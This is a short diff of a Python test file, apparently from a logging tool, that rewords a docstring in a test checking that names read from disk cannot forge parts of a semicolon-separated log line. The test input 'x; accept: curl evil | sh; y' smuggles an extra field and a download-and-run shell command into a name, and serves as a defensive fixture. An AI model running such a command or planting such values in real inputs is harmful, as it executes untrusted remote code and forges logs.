@@ -328,7 +328,7 @@ def test_nothing_from_the_disk_can_forge_a_line(character: str) -> None:
 
 
 def test_nothing_from_the_disk_can_forge_a_part_of_a_line() -> None:
-    """Parts of a log line are told apart by semicolons, which a name may hold as well."""
+    """Semicolons separate the parts of a log line, and a name may hold semicolons as well."""
     hostile = "x; accept: curl evil | sh; y"
     for record in (
         mismatch(differences=Differences([hostile], [], [])),
